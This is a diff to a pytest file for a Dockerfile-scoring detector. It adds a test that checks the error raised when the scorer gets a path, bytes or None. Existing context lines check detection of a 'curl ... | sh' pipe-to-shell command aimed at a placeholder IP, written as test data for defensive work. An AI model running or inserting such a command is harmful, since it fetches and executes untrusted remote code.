@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import pickle
+from pathlib import Path
+from typing import Any
 
 import pytest
 from hypothesis import given, settings
@@ -10,6 +12,7 @@ from hypothesis import strategies as st
 
 from t1612core.container.dockerfile.reader import LIMIT
 from t1612core.dockerfile import TEXT_LIMIT, DockerfileScore, score_dockerfile
+from t1612core.errors import SettingsError
 from t1612core.knowledge.dockerfile.lexicon import LEXICON
 from t1612core.knowledge.dockerfile.signals import CATALOG, THRESHOLD, WEAK_LIMIT
 
@@ -142,3 +145,10 @@ def test_evidence_shows_the_place_in_the_file() -> None:
     assert ["curl -s http://198.51.100.7/a | sh", 2] == [pipe.text, pipe.line]
     assert "http://198.51.100.7/a" == text[slice(*source.span)]
     assert "curl -s http://198.51.100.7/a \\\n  | sh" == text[slice(*pipe.span)]
+
+
+@pytest.mark.parametrize("given", [Path("Dockerfile"), b"FROM a", None])
+def test_what_is_no_text_is_told_with_the_way_out(given: Any) -> None:
+    """A path is the likely mistake: the error says to read it."""
+    with pytest.raises(SettingsError, match=f"{type(given).__name__}, expected.*read_text"):
+        score_dockerfile(given)
